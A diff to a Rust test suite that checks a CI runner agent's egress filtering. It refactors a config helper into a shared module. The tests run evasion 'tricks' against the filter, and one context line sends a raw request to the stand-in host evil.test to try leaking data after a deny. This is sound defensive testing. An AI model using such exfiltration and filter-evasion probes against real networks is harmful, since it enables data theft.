@@ -13,23 +13,11 @@ use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
 use std::path::Path;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::Arc;
-use std::time::Duration;
 
 use base64::Engine;
 use runner_agent_tests::agent::{describe, random_value, World};
-use runner_agent_tests::netbed::{NetBed, DNS_IP, TRAP_IPS};
+use runner_agent_tests::netbed::{allowed_test_config, settle, NetBed, TRAP_IPS};
 use runner_agent_tests::require_privilege;
-
-/// Lets packets in flight reach the recorders before they are read.
-fn settle() {
-    std::thread::sleep(Duration::from_millis(500));
-}
-
-fn egress_config(extra_rules: &str, extra_env: &str) -> String {
-    format!(
-        "network:\n  upstream_dns: [{DNS_IP}]\nenvironments:\n  default:\n    egress:\n      mode: enforce\n      allow:\n        - host: allowed.test\n        - host: \"*.allowed.test\"\n{extra_rules}{extra_env}"
-    )
-}
 
 /// A job step that writes `script` into the workspace (base64, so YAML quoting cannot
 /// mangle it) and runs it with python3 and `args`.
@@ -238,7 +226,7 @@ for label, addr, data in A:
 fn http_parsing_and_name_tricks() {
     require_privilege!();
     let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &egress_config("", ""));
+    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
     let (output, events) = run_attack(
         &world,
         "http",
@@ -372,7 +360,7 @@ for label, f in A:
 fn connect_and_client_hello_tricks() {
     require_privilege!();
     let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &egress_config("", ""));
+    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
     let (output, events) = run_attack(
         &world,
         "tls",
@@ -517,7 +505,7 @@ fn write_bed_ca(bed: &NetBed, dir: &Path) -> String {
 fn proxy_credential_goes_nowhere_else_and_never_back() {
     require_privilege!();
     let bed = NetBed::new().expect("net bed");
-    let config = egress_config(
+    let config = allowed_test_config(
         "        - host: tenant.test\n",
         "    secrets:\n      PROXY_TOKEN:\n        deliver: proxy\n        hosts: [api.allowed.test]\n        header: Authorization\n        format: \"Bearer {secret}\"\n",
     );
@@ -667,7 +655,7 @@ show("after-deny", raw(E, b"GET http://evil.test/leak-after HTTP/1.1\r\nConnecti
 fn overloaded_proxy_and_dns_filter_fail_closed_and_audit() {
     require_privilege!();
     let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &egress_config("", ""));
+    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
     let steps = format!(
         "  - name: raise nofile\n    run: ulimit -n 4096 || true\n{}",
         py_step("overload", OVERLOAD, &TRAP_IPS[0].to_string())
@@ -817,7 +805,7 @@ fn what_sits_beside_stays_out_of_reach() {
     let world = World::in_netns(
         bed.host_ns(),
         "",
-        &egress_config(
+        &allowed_test_config(
             "        - host: \"*.allowed.test\"\n          ports: [18080, 80, 443]\n",
             "",
         ),
